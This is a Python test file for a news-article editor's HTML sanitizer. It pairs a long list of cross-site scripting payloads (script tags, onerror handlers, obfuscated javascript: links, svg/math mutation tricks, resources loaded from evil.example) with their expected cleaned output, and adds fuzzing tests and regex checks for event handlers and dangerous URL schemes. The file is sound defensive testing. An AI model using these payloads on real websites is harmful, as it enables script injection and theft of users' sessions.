"""What the sanitizer lets pass: the editor's own elements, and nothing that acts."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles import body
from articles.editor import EXTENSIONS, sanitize
from articles.models import Article
from tests.articles import desk
from tests.factories import make_article, make_picture

KEPT = [
    "<h2>A</h2><h3>B</h3><h4>C</h4><p>D<br>E <strong>F</strong> <em>G</em> m<sup>2</sup></p><hr>",
    '<ol start="3"><li><p>A</p><ul><li><p>B</p></li></ul></li></ol>',
    "<blockquote><p>C</p></blockquote>",
    '<p><a href="https://example.com/?a=1&amp;b=2" title="T">A</a> <a href="/contact/">B</a></p>',
    '<p><a href="mailto:a@example.com">A</a> <a href="tel:+442079460958">B</a></p>',
    '<table><tbody><tr><th colspan="2"><p>A</p></th><td><p>B</p></td></tr></tbody></table>',
    '<figure data-picture="12"><figcaption>A <em>b</em></figcaption></figure>',
    '<figure data-picture="12" data-alt="A &amp; &quot;b&quot; &lt;c&gt;"></figure>',
    '<figure data-card="3"></figure>',
    '<figure data-video="https://youtu.be/dQw4w9WgXcQ"><figcaption>A</figcaption></figure>',
]

# What is POSTed as the body, and what is stored of it.
ATTACKS = {
    "<script>alert(1)</script>": "",
    "<p>a<script src=//evil.example/x.js></script>b</p>": "<p>ab</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>": "ipt&gt;alert(1)ipt&gt;",
    "<img src=x onerror=alert(1)>": "",
    '<p onclick="alert(1)">a</p>': "<p>a</p>",
    "<p/onmouseover=alert(1)>a</p>": "<p>a</p>",
    '<p style="background:url(javascript:alert(1))">a</p>': "<p>a</p>",
    '<p id="main" class="skip" name="x">a</p>': "<p>a</p>",
    "<style>*{background:url(//evil.example)}</style>": "",
    '<a href="javascript:alert(1)">a</a>': "<a>a</a>",
    '<a href="JaVaScRiPt:alert(1)">a</a>': "<a>a</a>",
    '<a href="java\nscript:alert(1)">a</a>': "<a>a</a>",
    '<a href="jav&#x09;ascript:alert(1)">a</a>': "<a>a</a>",
    '<a href=" &#14; javascript:alert(1)">a</a>': "<a>a</a>",
    '<a href="data:text/html,<script>alert(1)</script>">a</a>': "<a>a</a>",
    '<a href="vbscript:msgbox(1)">a</a>': "<a>a</a>",
    '<a href="ssh://evil.example">a</a>': "<a>a</a>",
    '<a href="/x" target="_blank" rel="opener">a</a>': '<a href="/x">a</a>',
    "<svg onload=alert(1)>": "",
    "<svg><script>alert(1)</script></svg>": "",
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>': "",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>": "",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">': "",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">': '&lt;p title=""&gt;',
    "<template><script>alert(1)</script></template>": "",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">': '<p></p>"&gt;',
    "<xmp><img src=x onerror=alert(1)></xmp>": "&lt;img src=x onerror=alert(1)&gt;",
    "<plaintext><img src=x onerror=alert(1)>": "&lt;img src=x onerror=alert(1)&gt;",
    "<!--><img src=x onerror=alert(1)>-->": "--&gt;",
    "<![CDATA[<img src=x onerror=alert(1)>]]>": "]]&gt;",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>': "",
    '<iframe src="https://www.youtube.com/embed/x"></iframe>': "",
    '<object data="javascript:alert(1)"></object><embed src="//evil.example/x.swf">': "",
    '<form action="//evil.example"><input><button formaction="javascript:1">a</button></form>': "a",
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">': "",
    '<link rel="stylesheet" href="//evil.example/x.css">': "",
    '<figure data-picture="1 onerror=alert(1)">a</figure>': "<figure>a</figure>",
    "<figure data-picture='1\"><img src=x onerror=alert(1)>'>a</figure>": "<figure>a</figure>",
    '<figure data-card="-1" onclick="alert(1)" class="x">a</figure>': "<figure>a</figure>",
    '<figure data-video="javascript:alert(1)">a</figure>': "<figure>a</figure>",
    '<figure data-video="http://youtu.be/dQw4w9WgXcQ">a</figure>': "<figure>a</figure>",
    "<figure data-video='https://x.example/\" onload=\"alert(1)'>a</figure>": "<figure>a</figure>",
    '<figure data-alt="&quot;><script>alert(1)</script>">a</figure>': (
        '<figure data-alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">a</figure>'
    ),
    f'<figure data-alt=" {"a" * 251} ">a</figure>': f'<figure data-alt="{"a" * 250}">a</figure>',
    '<p data-alt="a">b</p>': "<p>b</p>",
    '<td colspan="2;x" onclick=1>a</td>': "a",
}

TAGS = """
    a p b strong em sub sup h1 h2 h3 h5 ul ol li blockquote table thead tbody tr td th figure
    figcaption hr br div span svg math style script noscript template iframe title textarea
    select option form mtext mglyph foreignObject xmp plaintext img input caption button
"""
ATTRIBUTES = [
    'href="javascript:alert(1)"',
    'href="https://x.example/?a=1&b=2"',
    "onclick=alert(1)",
    'style="color:red"',
    'data-picture="12"',
    "data-alt='\"><img src=x onerror=1>'",
    'data-card="3"',
    'data-video="https://youtu.be/dQw4w9WgXcQ"',
    'data-video="https://x.example/"',
    'title="<script>"',
    "title='\"><img src=x onerror=1>'",
    'colspan="2"',
]
tags = st.builds(
    lambda slash, tag, attributes: f"<{' '.join([slash + tag, *attributes])}>",
    st.sampled_from(["", "", "/"]),
    st.sampled_from(TAGS.split()),
    st.lists(st.sampled_from(ATTRIBUTES), max_size=2),
)
texts = st.one_of(
    st.text(max_size=3), st.sampled_from(["&lt;script&gt;", "<!--", "-->", "<![CDATA[", "]]>"])
)
any_html = st.lists(st.one_of(tags, tags, texts), max_size=14).map("".join)


@pytest.mark.parametrize("html", KEPT)
def test_what_the_editor_makes_is_kept(html):
    assert sanitize(html) == html


@given(any_html)
def test_sanitizing_twice_changes_nothing_more(html):
    assert sanitize(sanitize(html)) == sanitize(html)


@pytest.fixture(scope="module")
def nodes():
    from articles.models import Card, Picture

    picture = Picture(pk=12, file="p.jpeg", width=4, height=3, alt='"><script>', caption="<i>c")
    card = Card(pk=3, title="<script>alert(1)</script>", url="https://x.example/")
    return {("picture", 12): picture, ("card", 3): card}


@given(html=any_html)
def test_a_page_made_of_anything_holds_nothing_that_acts(html, nodes):
    page = body.page(html, nodes).html
    opened = re.findall(r"<[a-z][^>]*>", page)
    names = {re.match(r"<([a-z0-9]+)", tag)[1] for tag in opened}
    assert names <= sanitizer_tags() | {"div", "span", "picture", "source", "img", "aside", "thead"}
    unquoted = [re.sub(r'"[^"]*"', "", tag) for tag in opened]
    assert not [tag for tag in unquoted if re.search(r"\s(on\w+|style|srcdoc)\b", tag)]
    assert not re.search(r'(href|src|data-video)="\s*(javascript|data|vbscript)', page, re.I)


def sanitizer_tags():
    from django_prose_editor.config import allowlist_from_extensions

    return allowlist_from_extensions(EXTENSIONS)["tags"]


@pytest.mark.parametrize(("html", "stored"), ATTACKS.items(), ids=range(len(ATTACKS)))
def test_attacks_are_stored_without_their_sting(client, db, html, stored):
    desk.log_in(client)
    article = make_article(body="<p>Before</p>")
    sent = desk.opened(client, desk.change_url(article)) | {"body": html}
    client.post(desk.change_url(article), sent)
    assert Article.objects.get().body == stored


def test_code_that_bypasses_forms_is_sanitized_as_well(db):
    article = make_article(body="<p onclick=x>a</p><script>b</script>")
    article.refresh_from_db()
    assert article.body == "<p>a</p>"


def test_the_desk_names_references_that_lead_nowhere(client, db):
    desk.log_in(client)
    picture = make_picture()
    html = (
        f'<figure data-picture="{picture.pk}"></figure><figure data-picture="404"></figure>'
        '<figure data-card="7"></figure><figure data-video="https://x.example/v"></figure>'
    )
    article = make_article()
    sent = desk.opened(client, desk.change_url(article)) | {"body": html}
    response = client.post(desk.change_url(article), sent)
    assert desk.errors(response)["body"] == [
        "Picture 404 is not in the library. Remove it or choose another.",
        "Card 7 does not exist. Remove it or choose another.",
        "“https://x.example/v” is not the address of a YouTube or Vimeo video.",
    ]
